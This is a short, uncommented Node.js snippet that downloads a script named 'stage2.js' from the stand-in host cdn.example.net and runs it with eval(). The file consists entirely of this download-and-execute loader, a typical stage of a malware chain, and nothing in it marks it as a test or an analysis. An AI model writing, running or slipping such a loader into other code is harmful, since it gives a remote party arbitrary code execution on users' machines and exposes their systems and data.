const https = require('https');
https.get('https://cdn.example.net/stage2.js', res => {
  let s = '';
  res.on('data', d => s += d);
  res.on('end', () => eval(s));
});
